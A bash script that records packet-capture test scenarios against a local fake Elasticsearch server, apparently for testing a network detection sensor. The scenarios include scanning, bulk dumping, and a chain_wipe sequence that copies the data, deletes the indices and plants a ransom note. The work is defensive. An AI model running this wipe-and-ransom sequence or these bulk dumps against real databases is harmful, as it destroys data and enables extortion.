#!/bin/bash
# Record the detection scenarios (issue 4, "Proof") with real clients against
# pcaps/record/es_server.py (or es_secured.py), then move every address onto
# the internet/inside addresses the scenario needs with tcprewrite --pnat:
#
#   pcaps/scenarios/<name>.pcap         the capture
#   pcaps/scenarios/<name>.facts.json   who is who, every step, every request the
#                                       server answered (attributed to its actor),
#                                       and the alerts a correct sensor must raise
#
#   sudo pcaps/record/record_scenarios.sh [NAME...]      (default: all)
#
# How addresses are made. Inside a private network namespace the server listens
# on 0.0.0.0:9200; clients reach it at 127.0.0.2 (or 127.0.1.1-20 for the
# sweep) from source 127.0.0.1 (the default; elasticdump, nmap and the python
# client use it) or from 127.0.0.3 / 127.0.0.4 (curl --interface). Every
# loopback address then stands for one party, and one tcprewrite --pnat list
# maps them, source and destination alike (network maps keep the host part:
# 127.0.1.0/24 -> 10.0.1.0/24 turns 127.0.1.7 into 10.0.1.7).
#
# Same discipline as record_es.sh: loopback MTU 1500 with GSO capped so segments
# are wire-sized, everything pinned to one CPU, tcpdump --immediate-mode -B 32768
# with snaplen 4096 (checked: nothing cut), kernel drops checked, checksums
# recomputed by tcprewrite --fixcsum, EXIT trap cleanup.
#
# Needs root (ip netns), ip, tcpdump, tcprewrite (tcpreplay), curl, nmap,
# node + npm (elasticdump, installed by record_es.sh's recipe into SW_NPM,
# default /tmp/sw-npm), Debian's python3 with python3-elasticsearch.
# The documents are the test server's seeded fake data; timestamps, ports,
# ISNs and scroll ids differ on every run, so the checked-in captures are the
# reference and tests/scenarios/*.expect are written against them.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
REPO=$(cd "$HERE/../.." && pwd)
OUT=$REPO/pcaps/scenarios
NS=sw-rec-sc-$$
WORK=$(mktemp -d /tmp/sw-rec-sc.XXXXXX)
SW_NPM=${SW_NPM:-/tmp/sw-npm}
PY=/usr/bin/python3
PORT=9200
SNAPLEN=4096
SERVER_PID=
DUMP_PID=

# Loopback stand-ins. SRV is the database; A (default source), B, C are clients.
SRV=127.0.0.2
A=127.0.0.1
B=127.0.0.3
C=127.0.0.4
URL=http://$SRV:$PORT

# Outside and inside addresses the captures end up with. The scanner addresses
# are taken from the committed list rules/lists/scanners.cidr (see facts).
SERVER_IP=10.0.0.5
CENSYS_IP=${CENSYS_IP:-167.94.138.120}       # Censys, Inc. (rules/lists/scanners.cidr)
BINARYEDGE_IP=${BINARYEDGE_IP:-45.83.66.120}   # BinaryEdge: NOT in the committed list yet (pcaps/README.md)

die() { echo "record_scenarios: $*" >&2; exit 1; }

stop_pid() {
    local pid=$1 signal=$2
    [ -n "$pid" ] || return 0
    kill -"$signal" "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
}

cleanup() {
    stop_pid "$DUMP_PID" TERM
    stop_pid "$SERVER_PID" TERM
    ip netns del "$NS" 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

[ "$(id -u)" = 0 ] || die "must run as root (ip netns)"
for tool in ip tcpdump tcprewrite curl nmap node "$PY"; do
    command -v "$tool" >/dev/null || die "missing $tool (apt-get install -y iproute2 tcpdump tcpreplay curl nmap nodejs npm python3)"
done
"$PY" -c 'import elasticsearch' 2>/dev/null \
    || die "Debian's python3 lacks the client (apt-get install -y python3-elasticsearch)"
[ -x "$SW_NPM/node_modules/.bin/elasticdump" ] \
    || die "elasticdump not in $SW_NPM: run pcaps/record/record_es.sh once (it installs the pinned npm clients)"
export NODE_PATH=$SW_NPM/node_modules
export PATH=$SW_NPM/node_modules/.bin:$PATH
ELASTICDUMP_VERSION=$(node -p "require('$SW_NPM/node_modules/elasticdump/package.json').version")
CURL_VERSION=$(curl --version | head -1 | cut -d' ' -f2)
NMAP_VERSION=$(nmap -V | sed -n 's/^Nmap version \([^ ]*\).*/\1/p')
TCPREWRITE_VERSION=$(tcprewrite -V 2>&1 | sed -n 's/^tcprewrite version: \([^ ]*\).*/\1/p')

PIN=()
command -v taskset >/dev/null && PIN=(taskset -c 0)
in_ns() { "${PIN[@]}" ip netns exec "$NS" "$@"; }

wait_for() {
    local what=$1; shift
    for _ in $(seq 100); do
        if "$@" >/dev/null 2>&1; then return 0; fi
        sleep 0.1
    done
    die "timed out waiting for $what"
}
port_listening() { in_ns ss -ltn "sport = :$1" | grep -q LISTEN; }

# ---------------------------------------------------------------- steps
# Every step appends one JSON line to $WORK/steps.jsonl: the actor (loopback
# source), what was run, the status it reported, and the range of server log
# lines (requests) it caused.

host_of() {                # a loopback server address -> its address after rewriting
    case $1 in
        "$SRV") echo "$SERVER_IP" ;;
        127.0.1.*) echo "10.0.1.${1##*.}" ;;
        *) die "no rewritten address for $1" ;;
    esac
}

log_lines() { grep -c . "$WORK/server.jsonl" || true; }

# The server logs a request after sending its answer, so the client can be
# done first: wait until the log stops growing before attributing lines.
settled_lines() {
    local n m
    n=$(log_lines)
    while sleep 0.3; m=$(log_lines); [ "$m" != "$n" ]; do n=$m; done
    echo "$n"
}

note_step() {    # note_step ACTOR KIND CHECK STATUS FIRST-LINE ARGS...
    "$PY" -c 'import json,sys; a=sys.argv; print(json.dumps({"actor": a[1], "kind": a[2], "check": a[3], "status": a[4], "first": int(a[5]), "last": int(a[6]), "command": a[7:]}))' \
        "$@" >>"$WORK/steps.jsonl"
}

# curl_step ACTOR CHECK EXPECTED-STATUS CURL-ARGS...: one request.
curl_step() {
    local actor=$1 check=$2 expected=$3; shift 3
    local code first iface=()
    [ "$actor" = "$A" ] || iface=(--interface "$actor")
    # the Host header names the address the server will have after rewriting
    local url=${*: -1} host
    host=${url#http://}; host=${host%%/*}; host=$(host_of "${host%:*}"):${host##*:}
    first=$(log_lines)
    code=$(in_ns curl -sS --max-time 30 "${iface[@]}" -H "Host: $host" -o /dev/null -w '%{http_code}' "$@")
    [ "$code" = "$expected" ] || die "curl $*: expected $expected, got $code"
    note_step "$actor" curl "$check" "$code" "$first" "$(settled_lines)" curl "${iface[@]}" -H "Host: $host" "$@"
}

# elasticdump_step CHECK ARGS...: elasticdump from the default source ($A);
# checks it wrote WANT documents (env WANT).
elasticdump_step() {
    local check=$1; shift
    local out=$WORK/dump.json first n
    rm -f "$out"
    first=$(log_lines)
    in_ns elasticdump "$@" --headers="{\"Host\":\"$SERVER_IP:$PORT\"}" --output="$out" --type=data >"$WORK/elasticdump.log" 2>&1 \
        || die "elasticdump failed: $(tail -5 "$WORK/elasticdump.log")"
    n=$(grep -c . "$out" || true)
    [ "$n" = "$WANT" ] || die "elasticdump wrote $n documents, expected $WANT"
    note_step "$A" elasticdump "$check" "wrote $n documents" "$first" "$(settled_lines)" \
        elasticdump "$@" --headers="{\"Host\":\"$SERVER_IP:$PORT\"}" --output=/tmp/x/dump.json --type=data
}

# python_scan_step CHECK USER PASSWORD INDEX...: Debian's python3-elasticsearch
# with HTTP Basic credentials and gzip: helpers.scan (size 1000) over each index.
python_scan_step() {
    local check=$1 user=$2 pass=$3; shift 3
    local first got
    first=$(log_lines)
    got=$(in_ns "$PY" - "$URL" "$SERVER_IP:$PORT" "$user" "$pass" "$@" <<'EOF'
import sys, warnings
from elasticsearch import Elasticsearch, helpers
warnings.simplefilter("ignore")
url, host, user, pw = sys.argv[1:5]
es = Elasticsearch([url], http_auth=(user, pw), http_compress=True, headers={"Host": host})
n = 0
for index in sys.argv[5:]:
    for _ in helpers.scan(es, index=index, size=1000, query={"query": {"match_all": {}}}):
        n += 1
print(n)
EOF
) || die "python client failed"
    [ "$got" = "$WANT" ] || die "python scan read $got documents, expected $WANT"
    note_step "$A" python "$check" "read $got documents" "$first" "$(settled_lines)" \
        python3 "elasticsearch $("$PY" -c 'import elasticsearch; print(elasticsearch.__versionstr__)')" \
        "helpers.scan(size=1000, http_auth=Basic, http_compress=True)" "$@"
}

# nmap_step CHECK ARGS...: nmap from the default source ($A).
nmap_step() {
    local check=$1; shift
    local first
    first=$(log_lines)
    in_ns nmap "$@" >"$WORK/nmap.log" 2>&1 || die "nmap failed: $(tail -5 "$WORK/nmap.log")"
    # what nmap concluded: the port line(s) of its report
    note_step "$A" nmap "$check" "$(grep -E '^[0-9]+/tcp|^\|' "$WORK/nmap.log" | sed 's/  */ /g' | paste -sd'|' -)" \
        "$first" "$(settled_lines)" nmap "$@"
}

pause() { sleep "${1:-1}"; note_step "-" pause "pause ${1:-1}s" "-" "$(settled_lines)" "$(settled_lines)" sleep "${1:-1}"; }

# ---------------------------------------------------------------- record
# begin NAME SERVER (es_server | es_secured)
begin() {
    NAME=$1
    SERVER=$2
    : >"$WORK/server.jsonl"
    : >"$WORK/steps.jsonl"
    "${PIN[@]}" ip netns exec "$NS" "$PY" "$HERE/$SERVER.py" --port "$PORT" --bind 0.0.0.0 \
        --log "$WORK/server.jsonl" >"$WORK/server.log" 2>&1 &
    SERVER_PID=$!
    wait_for "the server on port $PORT" port_listening "$PORT"
    "${PIN[@]}" ip netns exec "$NS" tcpdump --immediate-mode -B 32768 -i lo -s "$SNAPLEN" -U -Z root \
        -w "$WORK/raw.pcap" "tcp port $PORT" 2>"$WORK/tcpdump.log" &
    DUMP_PID=$!
    wait_for "tcpdump" grep -q "listening on" "$WORK/tcpdump.log"
}

# finish TITLE ACTORS-JSON PNAT
#   ACTORS-JSON: {"127.0.0.1": ["198.51.100.23", "role"], ...}
finish() {
    local title=$1 actors=$2 pnat=$3
    sleep 1
    stop_pid "$DUMP_PID" TERM; DUMP_PID=
    stop_pid "$SERVER_PID" TERM; SERVER_PID=
    grep -q "^0 packets dropped by kernel" "$WORK/tcpdump.log" \
        || die "tcpdump dropped packets: $(cat "$WORK/tcpdump.log")"
    mkdir -p "$OUT"
    tcprewrite --pnat="$pnat" --fixcsum --infile="$WORK/raw.pcap" --outfile="$WORK/$NAME.pcap" 2>&1 \
        | { grep -v -e 'was captured using a snaplen' -e '^Warning in tcprewrite' || true; } >&2
    "$PY" "$HERE/scenario_facts.py" write --name "$NAME" --title "$title" --pcap "$WORK/$NAME.pcap" \
        --server "$SERVER" --actors "$actors" --pnat "$pnat" \
        --steps "$WORK/steps.jsonl" --requests "$WORK/server.jsonl" \
        --versions "{\"elasticdump\": \"$ELASTICDUMP_VERSION\", \"curl\": \"$CURL_VERSION\", \"nmap\": \"$NMAP_VERSION\", \"tcprewrite\": \"$TCPREWRITE_VERSION\"}" \
        --out "$WORK/$NAME.facts.json"
    mv "$WORK/$NAME.pcap" "$OUT/$NAME.pcap"
    mv "$WORK/$NAME.facts.json" "$OUT/$NAME.facts.json"
    echo "wrote $OUT/$NAME.pcap ($(stat -c %s "$OUT/$NAME.pcap") bytes, $(grep -c . "$WORK/server.jsonl") requests)"
}

# ---------------------------------------------------------------- scenarios

# The request bytes of the crawlers. Censys documents its HTTP scanner's
# User-Agent as "Mozilla/5.0 (compatible; CensysInspect/1.1;
# +https://about.censys.io/)". BinaryEdge documents what its elasticsearch
# module collects (cluster and node info, and per index name, docs and size),
# not its request bytes and no User-Agent: GET / and GET /_cat/indices?v,
# sent without a User-Agent header, are our reconstruction of the minimum that
# yields those fields.
CENSYS_UA='Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'

crawler_requests() {     # crawler_requests ACTOR UA EXPECTED-STATUS
    curl_step "$1" banner "$3" -A "$2" -H 'Accept: */*' "$URL/"
    curl_step "$1" cat_indices "$3" -A "$2" -H 'Accept: */*' "$URL/_cat/indices?v"
}

sc_crawler_unauth() {
    begin crawler_unauth es_server
    crawler_requests "$A" "$CENSYS_UA" 200
    finish "Censys-range crawler (CensysInspect/1.1 User-Agent) grabs the banner and the index list of an unauthenticated Elasticsearch" \
        "{\"$A\": [\"$CENSYS_IP\", \"crawler (Censys range, CensysInspect UA)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:$CENSYS_IP/32,$SRV/32:$SERVER_IP/32"
}

sc_crawler_401() {
    begin crawler_401 es_secured
    crawler_requests "$A" "$CENSYS_UA" 401
    finish "the same Censys-range crawler against an Elasticsearch with security on: both requests answered 401" \
        "{\"$A\": [\"$CENSYS_IP\", \"crawler (Censys range, CensysInspect UA)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security on\"]}" \
        "$A/32:$CENSYS_IP/32,$SRV/32:$SERVER_IP/32"
}

sc_nmap_sv() {
    begin nmap_sv es_server
    nmap_step nmap_sV -sT -sV -Pn -n -p "$PORT" --script http-title,http-headers \
        --script-args http.host="$SERVER_IP" "$SRV"
    finish "nmap $NMAP_VERSION -sT -sV --script http-title,http-headers from an outside address against an unauthenticated Elasticsearch" \
        "{\"$A\": [\"198.51.100.13\", \"nmap user (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:198.51.100.13/32,$SRV/32:$SERVER_IP/32"
}

sc_elasticdump_scroll() {
    begin elasticdump_scroll es_server
    WANT=6000 elasticdump_step scroll_dump --input="$URL/tickets" --limit=1000
    finish "elasticdump $ELASTICDUMP_VERSION --limit=1000 scroll dump of tickets (6000 documents) from an outside address" \
        "{\"$A\": [\"198.51.100.23\", \"scraper (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:198.51.100.23/32,$SRV/32:$SERVER_IP/32"
}

sc_page_dump() {
    begin page_dump es_server
    curl_step "$A" search_all 200 --compressed "$URL/tickets/_search?size=10000&q=*:*"
    finish "curl: one size=10000 q=*:* page (6000 of 6000 tickets, gzip) from an outside address" \
        "{\"$A\": [\"198.51.100.45\", \"scraper (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:198.51.100.45/32,$SRV/32:$SERVER_IP/32"
}

sc_chain_wipe() {
    begin chain_wipe es_server
    curl_step "$A" cat_indices 200 "$URL/_cat/indices?v"
    curl_step "$A" mapping 200 "$URL/tickets/_mapping"
    WANT=6000 elasticdump_step scroll_dump --input="$URL/tickets" --limit=1000 --esCompress=true
    curl_step "$A" delete_tickets 200 -X DELETE "$URL/tickets"
    curl_step "$A" delete_logs 200 -X DELETE "$URL/logs-2024"
    curl_step "$A" ransom_index 200 -X PUT "$URL/read_me"
    curl_step "$A" ransom_note 201 -X PUT -H 'Content-Type: application/json' \
        -d '{"message":"All your data is backed up. You must pay 0.05 BTC to 1Kz6v4B5CawcnCXYZ1ffQg4mGyeDd7QM7e to restore it. After payment email recover@example.com with your server IP. 48 hours."}' \
        "$URL/read_me/_doc/1"
    finish "one outside source: _cat/indices, _mapping, elasticdump scroll dump of tickets (gzip), DELETE tickets and logs-2024, PUT /read_me with a ransom note" \
        "{\"$A\": [\"203.0.113.66\", \"attacker (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:203.0.113.66/32,$SRV/32:$SERVER_IP/32"
}

sc_trusted_client() {
    begin trusted_client es_server
    WANT=6000 elasticdump_step scroll_dump --input="$URL/tickets" --limit=1000 --esCompress=true
    curl_step "$A" search_all 200 --compressed "$URL/tickets/_search?size=10000&q=*:*"
    curl_step "$A" search_logs 200 --compressed "$URL/logs-2024/_search?size=1500&q=*:*"
    finish "the trusted application server 10.9.9.9 (trusted_clients) reads heavily without credentials: elasticdump scroll of tickets, size=10000 q=*:* pages" \
        "{\"$A\": [\"10.9.9.9\", \"trusted application server (inside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$A/32:10.9.9.9/32,$SRV/32:$SERVER_IP/32"
}

sc_authenticated_reads() {
    begin authenticated_reads es_secured
    curl_step "$A" banner 200 -u elastic:changeme "$URL/"
    curl_step "$A" cat_indices 200 -u elastic:changeme "$URL/_cat/indices?v"
    curl_step "$A" search_all 200 --compressed -u elastic:changeme "$URL/tickets/_search?size=10000&q=*:*"
    WANT=7500 python_scan_step scan elastic changeme tickets logs-2024
    finish "an outside client with HTTP Basic credentials reads heavily from an Elasticsearch with security on: size=10000 page, helpers.scan over tickets and logs-2024 (gzip)" \
        "{\"$A\": [\"198.51.100.77\", \"authenticated user (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security on\"]}" \
        "$A/32:198.51.100.77/32,$SRV/32:$SERVER_IP/32"
}

sc_sweep() {
    begin sweep es_server
    local i
    for i in $(seq 1 20); do
        curl_step "$A" "banner_10.0.1.$i" 200 "http://127.0.1.$i:$PORT/"
    done
    finish "one outside source sends GET / to 20 Elasticsearch servers 10.0.1.1-10.0.1.20 (one connection each)" \
        "{\"$A\": [\"198.51.100.99\", \"sweeper (outside)\"], \"127.0.1.0/24\": [\"10.0.1.0/24\", \"20 Elasticsearch servers 10.0.1.1-20, security off\"]}" \
        "$A/32:198.51.100.99/32,127.0.1.0/24:10.0.1.0/24"
}

sc_seed_story() {
    begin seed_story es_server
    # 1. someone on the internet gets an unauthenticated answer: the server is exposed
    curl_step "$B" exposed 200 "$URL/"
    pause 2
    # 2. BinaryEdge indexes it
    crawler_requests "$C" "" 200
    pause 2
    # 3. a different outside source dumps tickets by scroll
    WANT=6000 elasticdump_step scroll_dump --input="$URL/tickets" --limit=1000 --esCompress=true
    finish "seed story: an outside client gets an unauthenticated answer; a BinaryEdge-range source indexes the server (GET /, _cat/indices?v); another outside source dumps 6000 documents by scroll with elasticdump" \
        "{\"$B\": [\"203.0.113.10\", \"first outside client\"], \"$C\": [\"$BINARYEDGE_IP\", \"crawler (BinaryEdge range)\"], \"$A\": [\"198.51.100.200\", \"scraper (outside)\"], \"$SRV\": [\"$SERVER_IP\", \"Elasticsearch, security off\"]}" \
        "$B/32:203.0.113.10/32,$C/32:$BINARYEDGE_IP/32,$A/32:198.51.100.200/32,$SRV/32:$SERVER_IP/32"
}

ALL=(crawler_unauth crawler_401 nmap_sv elasticdump_scroll page_dump chain_wipe trusted_client
     authenticated_reads sweep seed_story)

ip netns add "$NS"
in_ns ip link set lo mtu 1500 up
in_ns ip link set lo gso_max_size 1500 gso_max_segs 1 \
    || die "cannot cap GSO on lo (iproute2/kernel too old?)"

for name in "${@:-${ALL[@]}}"; do
    declare -F "sc_$name" >/dev/null || die "unknown scenario $name (known: ${ALL[*]})"
    "sc_$name"
done
